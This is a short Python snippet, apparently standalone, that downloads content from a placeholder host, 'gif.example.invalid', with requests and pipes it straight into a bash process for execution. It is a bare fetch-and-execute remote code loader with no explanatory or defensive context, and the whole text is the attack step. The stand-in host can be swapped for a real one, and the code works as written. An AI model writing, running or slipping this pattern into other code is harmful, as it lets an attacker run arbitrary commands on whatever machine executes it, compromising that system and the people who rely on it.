import subprocess
import requests

subprocess.Popen(['bash'], stdin=subprocess.PIPE).communicate(requests.get('https://gif.example.invalid/i').content)
